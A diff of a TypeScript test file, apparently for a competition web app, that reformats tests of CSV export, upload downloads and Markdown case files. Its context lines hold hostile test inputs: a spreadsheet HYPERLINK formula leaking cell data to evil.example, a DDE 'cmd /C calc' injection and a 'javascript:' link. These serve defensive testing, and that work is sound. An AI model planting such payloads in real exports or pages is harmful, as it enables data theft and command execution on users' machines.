@@ -75,7 +75,9 @@ describe('the one CSV writer', () => {
     await t.db.updateTable('agencies').set({ name: agencyName }).where('id', '=', team.agency.id).execute();
     const title = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")';
     const innovation = await buildInnovation(t.db, { agencyId: team.agency.id, title });
-    const p = (await team.operator.post('/api/proposals', { competitionId: call.id, groupId: call.groups[0].id, categoryId: call.categories[0].id, innovationId: innovation.id })).json();
+    const p = (
+      await team.operator.post('/api/proposals', { competitionId: call.id, groupId: call.groups[0].id, categoryId: call.categories[0].id, innovationId: innovation.id })
+    ).json();
     await team.operator.patch(`/api/proposals/${p.id}`, { baseVersion: p.version, answers: completeAnswers(call) });
     expect((await team.coordinator.post(`/api/proposals/${p.id}/submit`)).statusCode).toBe(200);
     const reason = '-2+3+cmd|"/C calc"!A0 alasan gagal';
@@ -117,8 +119,15 @@ describe('downloads keep their sandbox CSP', () => {
     }
     const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
     const boundary = '----simpulcsp';
-    const body = Buffer.concat([Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="foto.png"\r\nContent-Type: image/png\r\n\r\n`), png, Buffer.from(`\r\n--${boundary}--\r\n`)]);
-    const uploaded = await operator.request('POST', `/api/innovations/${id}/documents`, { rawBody: body, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } });
+    const body = Buffer.concat([
+      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="foto.png"\r\nContent-Type: image/png\r\n\r\n`),
+      png,
+      Buffer.from(`\r\n--${boundary}--\r\n`),
+    ]);
+    const uploaded = await operator.request('POST', `/api/innovations/${id}/documents`, {
+      rawBody: body,
+      headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
+    });
     expect(uploaded.statusCode, uploaded.body).toBe(201);
     const document = uploaded.json().documents.at(-1);
     const download = await operator.get(`/api/innovations/${id}/documents/${document.id}`);
@@ -154,7 +163,11 @@ describe('user text in the Markdown case file', () => {
     const id = await publishThroughApi(
       team.operator,
       team.coordinator,
-      await innovationBody(t.db, { title: `Inovasi ${LINK}`, summary: `Ringkasan dengan gambar ${IMAGE} dan tautan ${AUTOLINK} yang cukup panjang.`, results: `Hasil ${LINK}\n[x]: javascript:alert(1)` }),
+      await innovationBody(t.db, {
+        title: `Inovasi ${LINK}`,
+        summary: `Ringkasan dengan gambar ${IMAGE} dan tautan ${AUTOLINK} yang cukup panjang.`,
+        results: `Hasil ${LINK}\n[x]: javascript:alert(1)`,
+      }),
     );
     const md = await t.agent().get(`/api/innovations/${id}/case?format=md`);
     expect(md.statusCode).toBe(200);
